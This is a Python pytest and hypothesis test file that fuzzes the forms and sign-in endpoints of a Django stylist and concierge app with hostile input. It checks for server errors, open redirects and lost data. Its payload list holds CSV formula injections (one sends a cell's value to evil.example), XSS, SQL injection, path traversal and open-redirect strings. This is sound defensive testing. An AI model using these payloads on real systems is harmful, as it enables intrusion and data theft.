"""Hostile input for every HTML form that takes free input, and the sign-in endpoints.

Each form is posted, as a browser would (application/x-www-form-urlencoded),
with fixed classics (every field 1 MB, NUL bytes, formula injection, every
field missing, every field duplicated, invalid UTF-8, raw garbage) and then
with bodies hypothesis draws (derandomized, bounded). Each request runs in a
rolled-back savepoint, so examples do not see each other's writes.

For every answer:
- never a 5xx. SQLite accepts what PostgreSQL refuses, so the harness refuses
  it too: a query parameter with a NUL character fails the request, and a
  stored text longer than its column's max_length fails the check;
- a redirect stays on this site (no open redirect through `next`);
- refused input (the form again, 4xx) changes nothing that is watched;
- accepted input loses nothing already stored: rows are not deleted, and a
  field the request did not send keeps its value.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import pytest
from axes.models import AccessAttempt
from django.contrib import messages
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.db import connection, models, transaction
from django.test import Client as HttpClient
from django.urls import reverse
from django_otp.plugins.otp_totp.models import TOTPDevice
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rest_framework.authtoken.models import Token

from clients.models import Client, Identity, Interaction, Occasion, WishlistItem
from consent.models import ConsentRecord, PrivacyRequest
from recommendations.models import Lookbook, LookbookItem, ReviewEvent
from stylists.models import (
    Appointment,
    BookAssignment,
    ClientNote,
    FollowUp,
    Message,
    StylingRequest,
)
from stylists.pages.story import PREFERENCE_FIELDS, SIZE_LABELS
from tests.security.access_matrix import World, build_world

pytestmark = pytest.mark.django_db

EXAMPLES = 10  # drawn bodies per form, after the fixed classics
MISSING = object()  # a field left out of the body
HUGE = "x" * 1_000_000  # 1 MB in one field
NASTY = [
    "",
    " ",
    "\t\r\n",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🧵" * 20,
    "9" * 40,
    "-1",
    "0",
    "1e309",
    "NaN",
    "-Infinity",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31",
    "../../etc/passwd",
    "%00%ff",
    "null",
    "[]",
    "{}",
    "x" * 5000,
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example",
]
CLASSICS = ("huge", "nul", "formula", "missing", "duplicated", "bad_utf8", "raw")


# --- What is watched ------------------------------------------------------------------------

WATCHED: list[type[models.Model]] = [
    Client,
    Identity,
    Occasion,
    WishlistItem,
    Interaction,
    ClientNote,
    Message,
    StylingRequest,
    Appointment,
    FollowUp,
    BookAssignment,
    Lookbook,
    LookbookItem,
    ReviewEvent,
    ConsentRecord,
    PrivacyRequest,
    Token,
    TOTPDevice,
]
# Rows a refusal writes by design (axes counts failed sign-ins): checked for what
# PostgreSQL would refuse, not for changes.
WRITTEN_ON_REFUSAL: list[type[models.Model]] = [AccessAttempt]
Snapshot = dict[str, dict[Any, dict[str, Any]]]


def snapshot(ignore: tuple[str, ...] = ()) -> Snapshot:
    """Every watched row as stored (raw columns, so a re-encrypted value counts as a change)."""
    tables: Snapshot = {}
    with connection.cursor() as cursor:
        for model in [*WATCHED, get_user_model(), *WRITTEN_ON_REFUSAL]:
            label = model._meta.label_lower
            if label in ignore:
                continue
            table = connection.ops.quote_name(model._meta.db_table)  # a model's, not input
            cursor.execute(f"SELECT * FROM {table}")  # noqa: S608
            columns = [column[0] for column in cursor.description]
            pk = columns.index(model._meta.pk.column)
            tables[label] = {
                row[pk]: dict(zip(columns, row, strict=True)) for row in cursor.fetchall()
            }
    return tables


def _differences(before: Snapshot, after: Snapshot) -> list[str]:
    found = []
    for label, rows in before.items():
        if label in {model._meta.label_lower for model in WRITTEN_ON_REFUSAL}:
            continue
        now = after[label]
        found += [f"{label} #{pk} deleted" for pk in rows.keys() - now.keys()]
        found += [f"{label} #{pk} added" for pk in now.keys() - rows.keys()]
        for pk in rows.keys() & now.keys():
            changed = [k for k, v in rows[pk].items() if now[pk][k] != v]
            if changed:
                found.append(f"{label} #{pk} changed {changed}")
    return found


def _too_long_or_nul(after: Snapshot, before: Snapshot) -> list[str]:
    """What PostgreSQL would refuse in a written row (SQLite stores it silently)."""
    found = []
    for model in [*WATCHED, get_user_model(), *WRITTEN_ON_REFUSAL]:
        label = model._meta.label_lower
        if label not in after:
            continue
        for pk, row in after[label].items():
            if before[label].get(pk) == row:
                continue
            for f in model._meta.concrete_fields:
                value = row.get(f.column)
                if (
                    isinstance(f, models.JSONField)
                    and value is not None
                    and not isinstance(value, str)
                ):
                    value = json.dumps(value)  # PostgreSQL's driver may hand back the decoded value
                if not isinstance(value, str):
                    continue
                limit = getattr(f, "max_length", None)
                if limit and isinstance(f, models.CharField) and len(value) > limit:
                    found.append(f"{label}.{f.name} #{pk}: {len(value)} > {limit} characters")
                if "\x00" in value or (isinstance(f, models.JSONField) and "\\u0000" in value):
                    found.append(f"{label}.{f.name} #{pk} holds a NUL character")
    return found


def _postgres_would_refuse(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
    """psycopg refuses NUL characters in query parameters; SQLite does not. Refuse them here."""
    for param in params or ():
        values = param if many and isinstance(param, list | tuple) else [param]
        for value in values:
            if isinstance(value, str) and ("\x00" in value or "\\u0000" in value):
                raise ValueError(f"PostgreSQL would refuse a NUL character in: {sql[:120]}")
    return execute(sql, params, many, context)


# --- The forms ---------------------------------------------------------------------------------

Fields = dict[str, Any]


@dataclass(frozen=True)
class Form:
    name: str
    persona: str
    url: Callable[[World], str]
    fields: Callable[[World], Fields]  # a valid body: the fuzzer starts from it
    method: str = "POST"
    # What accepting the input looks like; an answer that queues an error message
    # ("Please choose one of the three tiers.") is a refusal whatever its status.
    success: tuple[int, ...] = (302, 303)
    ignore: tuple[str, ...] = ()  # tables the view may write even when it refuses
    keeps: Callable[[World], dict[str, Any]] | None = None  # fields an unsent name must keep

    def __str__(self) -> str:
        return self.name


def _client(w: World) -> Client:
    return Client.objects.get(pk=w.cast.client.pk)


def _sizes(w: World) -> dict[str, Any]:
    sizes = _client(w).sizes or {}
    return {key: sizes.get(key) for key in SIZE_LABELS}


def _preferences(w: World) -> dict[str, Any]:
    client = _client(w)
    values = {name: getattr(client, name) for name, _ in PREFERENCE_FIELDS}
    values.update(price_band_min=client.price_band_min, price_band_max=client.price_band_max)
    return values


def _occasion(w: World) -> dict[str, Any]:
    occasion = Occasion.objects.get(pk=w.occasion.pk)
    return {"title": occasion.title, "notes": occasion.notes}


def _ahead(days: int) -> str:
    from django.utils import timezone

    return (timezone.localdate() + __import__("datetime").timedelta(days=days)).isoformat()


def _lb(name: str, lookbook: Callable[[World], Any], *item: Callable[[World], int]) -> Callable:
    return lambda w: reverse(
        f"stylists:{name}", args=[lookbook(w).public_id, *(i(w) for i in item)]
    )


def _draft(w: World) -> Lookbook:
    return w.draft


def _first(w: World) -> int:
    return w.draft_items[0].pk


FORMS: list[Form] = [
    # --- The client story, inline (her advisor) ---
    Form(
        "note_add",
        "owner",
        lambda w: reverse("stylists:note_add", args=[w.client_id]),
        lambda w: {"body": "Loves navy.", "category": "style", "pinned": "on"},
    ),
    Form(
        "occasion_add (stylist)",
        "owner",
        lambda w: reverse("stylists:occasion_add", args=[w.client_id]),
        lambda w: {
            "kind": "gala",
            "title": "Met Gala",
            "date": _ahead(40),
            "recurring_yearly": "on",
            "notes": "Black tie",
        },
    ),
    Form(
        "occasion_edit (stylist)",
        "owner",
        lambda w: reverse("stylists:occasion_edit", args=[w.client_id, w.occasion.pk]),
        lambda w: {"kind": "gala", "title": "Opera gala", "date": _ahead(20), "notes": "Navy"},
        keeps=_occasion,
    ),
    Form(
        "sizes_edit",
        "owner",
        lambda w: reverse("stylists:sizes_edit", args=[w.client_id]),
        lambda w: {"ready_to_wear": "40", "shoes": "39", "ring": "52", "belt": "85"},
        keeps=_sizes,
    ),
    Form(
        "preferences_edit",
        "owner",
        lambda w: reverse("stylists:preferences_edit", args=[w.client_id]),
        lambda w: {
            "preferred_categories": "Ready-to-wear",
            "preferred_colours": "navy, ivory",
            "preferred_materials": "silk",
            "style_keywords": "quiet luxury",
            "avoided": "fur",
            "price_band_min": "500",
            "price_band_max": "5000",
        },
        keeps=_preferences,
    ),
    Form(
        "message_send",
        "owner",
        lambda w: reverse("stylists:message_send", args=[w.client_id]),
        lambda w: {"channel": "concierge", "kind": "service", "subject": "", "body": "Bonjour."},
    ),
    Form(
        "follow_up_snooze",
        "owner",
        lambda w: reverse("stylists:follow_up_snooze", args=[w.follow_up.pk]),
        lambda w: {"days": "3"},
    ),
    Form(
        "appointment_status",
        "owner",
        lambda w: reverse("stylists:appointment_status", args=[w.appointment.public_id]),
        lambda w: {"status": "cancelled"},
    ),
    Form(
        "client export filters (CSV)",
        "owner",
        lambda w: reverse("stylists:client_export"),
        lambda w: {"q": "Laurent", "scope": "mine", "tier": "personal", "sort": "name"},
        method="GET",
        success=(),
    ),
    Form(
        "client_list filters",
        "owner",
        lambda w: reverse("stylists:client_list"),
        lambda w: {
            "q": "Laurent",
            "scope": "mine",
            "tier": "personal",
            "sort": "name",
            "page": "1",
        },
        method="GET",
        success=(),
    ),
    # --- The lookbook review ---
    Form(
        "lookbook remove",
        "owner",
        _lb("lookbook_item_remove", _draft, _first),
        lambda w: {"version": "1", "reason": "other", "note": "Too formal for her"},
    ),
    Form(
        "lookbook details",
        "owner",
        _lb("lookbook_details", _draft),
        lambda w: {"version": "1", "title": "For the gala", "note": "With love"},
    ),
    Form(
        "lookbook publish",
        "owner",
        _lb("lookbook_publish", _draft),
        lambda w: {"version": "1", "title": "For you", "note": "", "channels": "concierge"},
    ),
    Form(
        "lookbook discard",
        "owner",
        _lb("lookbook_discard", _draft),
        lambda w: {"version": "1", "reason": "other", "note": "Not now"},
    ),
    Form(
        "lookbook withdraw",
        "owner",
        _lb("lookbook_withdraw", lambda w: w.published),
        lambda w: {"version": str(w.published.version), "reason": "Sent too early"},
    ),
    Form(
        "lookbook add",
        "owner",
        _lb("lookbook_add", _draft),
        lambda w: {"version": "1", "product": str(w.alternates[1].public_id), "q": "Alt"},
    ),
    Form(
        "lookbook swap",
        "owner",
        _lb("lookbook_item_swap", _draft, _first),
        lambda w: {"version": "1", "pick": f"alternate:{w.alternates[0].public_id}"},
    ),
    Form(
        "lookbook move",
        "owner",
        _lb("lookbook_item_move", _draft, lambda w: w.draft_items[1].pk),
        lambda w: {"version": "1", "direction": "up"},
    ),
    Form(
        "lookbook reorder",
        "owner",
        _lb("lookbook_reorder", _draft),
        lambda w: {"version": "1", "order": [str(i.pk) for i in reversed(w.draft_items[:2])]},
    ),
    Form(
        "lookbook search",
        "owner",
        _lb("lookbook_search", _draft),
        lambda w: {"q": "Alternate", "for": str(w.draft_items[0].pk)},
        method="GET",
        success=(),
    ),
    Form(
        "lookbook_new",
        "owner",
        lambda w: reverse("stylists:lookbook_new", args=[w.client_id]),
        lambda w: {
            "title": "For the spring",
            "occasion": str(w.occasion.pk),
            "styling_request": str(w.styling_request.public_id),
        },
    ),
    Form(
        "compose_template",
        "owner",
        lambda w: reverse("stylists:compose_template", args=[w.client_id]),
        lambda w: {
            "template": str(w.template_pk),
            "piece": str(w.product.public_id),
            "occasion": str(w.occasion.pk),
            "channel": "email",
        },
        method="GET",
        success=(),
    ),
    # --- Managers and head office ---
    Form(
        "team_reassign",
        "manager",
        lambda w: reverse("stylists:team_reassign"),
        lambda w: {
            "boutique": "paris",
            "clients": str(w.client_id),
            "to_stylist": str(w.cast.colleague.pk),
            "reason": "Élise on leave",
        },
    ),
    Form(
        "audit filters",
        "head_office",
        lambda w: reverse("stylists:audit"),
        lambda w: {"actor": str(w.cast.owner.user.pk), "client": "Laurent", "page": "1"},
        method="GET",
        success=(),
    ),
    # --- The concierge (the client herself) ---
    Form(
        "occasions (concierge)",
        "client_user",
        lambda w: reverse("concierge:occasions"),
        lambda w: {
            "kind": "anniversary",
            "title": "Venice",
            "date": _ahead(60),
            "recurring_yearly": "on",
            "notes": "Warm evenings",
        },
    ),
    Form(
        "occasion_edit (concierge)",
        "client_user",
        lambda w: reverse("concierge:occasion_edit", args=[w.occasion.pk]),
        lambda w: {"kind": "gala", "title": "Opera gala", "date": _ahead(20), "notes": "Navy"},
        keeps=_occasion,
    ),
    Form(
        "styling request",
        "client_user",
        lambda w: reverse("concierge:requests"),
        lambda w: {
            "purpose": "occasion",
            "occasion": str(w.occasion.pk),
            "new_occasion_kind": "wedding",
            "new_occasion_title": "Lake Como",
            "new_occasion_date": _ahead(90),
            "budget_max": "3000",
            "message": "Something light for a summer wedding.",
        },
    ),
    Form(
        "appointment booking",
        "client_user",
        lambda w: reverse("concierge:appointment_book"),
        lambda w: {
            "kind": "boutique",
            "at": "2031-01-07T10:00:00+01:00",
            "purpose": "To try the trench",
            "occasion": str(w.occasion.pk),
            "piece": str(w.product.public_id),
            "week": "1",
        },
        success=(302,),
    ),
    Form(
        "messages (concierge)",
        "client_user",
        lambda w: reverse("concierge:messages"),
        lambda w: {"body": "Thank you, Élise."},
    ),
    Form(
        "lookbook reaction",
        "client_user",
        lambda w: reverse(
            "concierge:lookbook_react", args=[w.published.public_id, w.published_items[0].pk]
        ),
        lambda w: {"reaction": "love"},
    ),
    Form(
        "wishlist save (next)",
        "client_user",
        lambda w: reverse("concierge:wishlist_add", args=[w.product.public_id]),
        lambda w: {"next": "/concierge/wishlist/"},
    ),
    Form(
        "privacy consent",
        "client_user",
        lambda w: reverse("concierge:privacy_consent"),
        lambda w: {"tier": "bespoke", "channels": "email"},
        # Both answers go back to the privacy centre; a refusal carries an error message.
        success=(302,),
    ),
    Form(
        "privacy erase (confirmation)",
        "client_user",
        lambda w: reverse("concierge:privacy_erase"),
        lambda w: {"confirm": "not yet"},
        success=(),
    ),
    # --- Signing in ---
    Form(
        "login",
        "anonymous",
        lambda w: reverse("login"),
        lambda w: {"username": "owner", "password": "not-the-password", "next": "/stylist/"},
    ),
    Form(
        "API token",
        "anonymous",
        lambda w: reverse("api-token"),
        lambda w: {"username": "owner", "password": "not-the-password", "otp_token": "123456"},
        success=(200,),
    ),
    Form(
        "two-factor set-up",
        "owner",
        lambda w: reverse("two_factor_setup"),
        lambda w: {"token": "123456", "next": "/stylist/"},
        ignore=("otp_totp.totpdevice",),  # the pending authenticator is made on first sight
    ),
]


# --- Bodies ------------------------------------------------------------------------------------


def _encode(body: dict[str, Any]) -> bytes:
    pairs = []
    for name, value in body.items():
        if value is MISSING:
            continue
        for item in value if isinstance(value, list) else [value]:
            pairs.append((name, item))
    return urllib.parse.urlencode(pairs).encode("ascii")


def _classic(kind: str, valid: Fields) -> tuple[bytes, set[str]]:
    """A fixed hostile body, and the names of the fields it sends."""
    names = set(valid)
    if kind == "huge":
        return _encode(dict.fromkeys(valid, HUGE)), names
    if kind == "nul":
        return _encode(
            {k: f"{v if isinstance(v, str) else ''}\x00" for k, v in valid.items()}
        ), names
    if kind == "formula":
        return _encode({k: "=cmd|' /C calc'!A0" for k in valid}), names
    if kind == "missing":
        return b"", set()
    if kind == "duplicated":
        return _encode(
            {k: [v, "=1+1", v] if isinstance(v, str) else v for k, v in valid.items()}
        ), names
    if kind == "bad_utf8":  # the valid body, each value followed by bytes that are not UTF-8
        raw = b"&".join(
            urllib.parse.quote(str(k)).encode()
            + b"="
            + urllib.parse.quote(str(v)).encode()
            + b"\xff\xfe%C3%28"
            for k, v in valid.items()
        )
        return raw, names
    return b"\x80\x81\xfe=\xff&&==%%%zz&\x00=\x00", set()  # raw garbage


def _value(valid: Any) -> st.SearchStrategy[Any]:
    text = st.one_of(st.sampled_from(NASTY), st.text(max_size=30))
    scalar = st.one_of(st.just(valid), text) if isinstance(valid, str) else text
    return st.one_of(
        scalar,
        st.just(MISSING),
        st.lists(scalar, min_size=2, max_size=3),  # the field, duplicated
    )


def _bodies(valid: Fields) -> st.SearchStrategy[tuple[bytes, set[str]]]:
    drawn = st.fixed_dictionaries({name: _value(value) for name, value in valid.items()})
    return st.one_of(
        drawn.map(lambda body: (_encode(body), {k for k, v in body.items() if v is not MISSING})),
        st.binary(max_size=200).map(lambda raw: (raw, set())),
    )


# --- Asking ------------------------------------------------------------------------------------


@dataclass
class Outcome:
    status: int
    location: str
    before: Snapshot
    after: Snapshot
    kept: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)  # error messages queued for the next page


@contextmanager
def _savepoint() -> Iterator[None]:
    with transaction.atomic(), connection.execute_wrapper(_postgres_would_refuse):
        yield
        transaction.set_rollback(True)


def _send(http: HttpClient, form: Form, url: str, raw: bytes) -> Any:
    if form.method == "GET":
        return http.get(f"{url}?{urllib.parse.quote_from_bytes(raw, safe='=&')}")
    return http.generic(
        "POST", url, raw, content_type="application/x-www-form-urlencoded; charset=utf-8"
    )


def _ask(world: World, http: HttpClient, form: Form, raw: bytes, sent: set[str]) -> Outcome:
    cache.clear()  # rate limits must not answer in the form's place
    url = form.url(world)
    with _savepoint():
        before = snapshot(form.ignore)
        values_before = form.keeps(world) if form.keeps else {}
        response = _send(http, form, url, raw)
        if response.streaming:  # a CSV export: its rows are read (and may fail) here
            b"".join(response.streaming_content)
        after = snapshot(form.ignore)
        values_after = form.keeps(world) if form.keeps else {}
    kept = [
        f"{name} was {value!r}, now {values_after.get(name)!r}, though the request did not send it"
        for name, value in values_before.items()
        if name not in sent and values_after.get(name) != value
    ]
    return Outcome(
        response.status_code, response.get("Location", ""), before, after, kept, _errors(response)
    )


def _errors(response: Any) -> list[str]:
    """The error messages this request queued (messages framework), for a redirecting refusal."""
    storage = getattr(response.wsgi_request, "_messages", None)
    queued = getattr(storage, "_queued_messages", [])
    return [str(m) for m in queued if m.level >= messages.ERROR]


def _judge(form: Form, outcome: Outcome, what: str) -> list[str]:
    problems = []
    if outcome.status >= 500:
        problems.append(f"{outcome.status}")
    location = outcome.location
    if location:
        target = urllib.parse.urlsplit(location)
        if target.scheme or target.netloc or location.startswith(("//", "/\\")):
            problems.append(f"redirect off the site: {location[:120]}")
    changes = _differences(outcome.before, outcome.after)
    accepted = outcome.status in form.success and not outcome.errors
    if not accepted and changes:
        problems.append(f"refused ({outcome.status}) but changed: {changes[:5]}")
    if accepted:
        problems += [c for c in changes if c.endswith("deleted")]
    problems += _too_long_or_nul(outcome.after, outcome.before)
    problems += outcome.kept
    return [f"{form} [{what}]: {p}" for p in problems]


def _http(world: World, persona: str) -> HttpClient:
    http = world.cast.http(persona)
    http.raise_request_exception = True
    return http


@pytest.fixture
def world(cast: Any, settings: Any, tmp_path: Any) -> World:
    settings.PRIVATE_STORAGE_ROOT = tmp_path / "private"
    settings.MODEL_ARTIFACT_DIR = tmp_path / "models"
    # A few things already on file that a careless form could lose.
    client = cast.client
    client.sizes = {"ready_to_wear": "38", "shoes": "38.5", "gloves": "7"}
    client.preferred_colours = ["camel"]
    client.avoided = ["fur"]
    client.save(update_fields=["sizes", "preferred_colours", "avoided"])
    return build_world(cast)


def _attempt(
    world: World, http: HttpClient, form: Form, raw: bytes, sent: set[str], what: str
) -> list[str]:
    try:
        outcome = _ask(world, http, form, raw, sent)
    except Exception as error:  # the test client re-raises what became a 500
        return [f"{form} [{what}]: 500 {type(error).__name__}: {str(error)[:200]}"]
    return _judge(form, outcome, what)


@pytest.mark.parametrize("form", FORMS, ids=str)
def test_hostile_input_is_refused_calmly_and_loses_nothing(world: World, form: Form) -> None:
    http = _http(world, form.persona)
    valid = form.fields(world)
    problems: list[str] = []
    # The classics, every time
    for kind in CLASSICS:
        raw, sent = _classic(kind, valid)
        problems += _attempt(world, http, form, raw, sent, kind)

    # Then what hypothesis draws
    @settings(
        max_examples=EXAMPLES,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(body=_bodies(valid))
    def drawn(body: tuple[bytes, set[str]]) -> None:
        raw, sent = body
        problems.extend(_attempt(world, http, form, raw, sent, f"drawn {raw[:60]!r}"))

    drawn()
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(sorted(set(problems))[:40])


def test_the_valid_bodies_are_accepted(world: World) -> None:
    # The fuzzer starts from these; each is accepted as sent (else the fuzz would prove little).
    refused = []
    for form in FORMS:
        if not form.success:
            continue
        http = _http(world, form.persona)
        outcome = _ask(world, http, form, _encode(form.fields(world)), set(form.fields(world)))
        expected = form.success
        if form.name in ("login", "API token", "two-factor set-up", "appointment booking"):
            continue  # the valid-looking body carries a wrong password, code or a past slot
        if outcome.status not in expected or outcome.errors:
            refused.append(f"{form}: {outcome.status} {outcome.location} {outcome.errors}")
    assert not refused, "\n".join(refused)
